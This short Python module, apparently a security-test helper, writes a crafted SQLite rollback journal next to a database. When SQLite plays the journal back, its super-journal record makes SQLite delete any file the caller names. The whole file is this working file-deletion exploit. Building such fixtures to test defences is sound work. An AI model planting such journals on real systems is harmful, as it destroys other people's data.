"""Files beside a SQLite database that an attacker would plant."""

from __future__ import annotations

import struct

_MAGIC = bytes.fromhex("d9d505f920a163d7")


def plant_super_journal(database, target):
    """Write a rollback journal that SQLite plays back, and that names ``target`` to delete.

    Its one page is the first one of the database as it is, so that playing it back changes nothing.
    Format: https://sqlite.org/fileformat.html#the_rollback_journal; the record of the super-journal
    is that of ``writeSuperJournal`` in pager.c.
    """
    data = database.read_bytes()
    (size,) = struct.unpack(">H", data[16:18])
    nonce, page = 7, data[:size]
    checksum = (nonce + sum(page[place] for place in range(size - 200, 0, -200))) & 0xFFFFFFFF
    header = _MAGIC + struct.pack(">5I", 1, nonce, len(data) // size, 512, size)
    record = struct.pack(">I", 1) + page + struct.pack(">I", checksum)
    name = str(target).encode()
    end = (
        struct.pack(">I", 0x40000000 // size + 1) + name + struct.pack(">II", len(name), sum(name))
    )
    journal = database.with_name(f"{database.name}-journal")
    journal.write_bytes(header.ljust(512, b"\0") + record + end + _MAGIC)
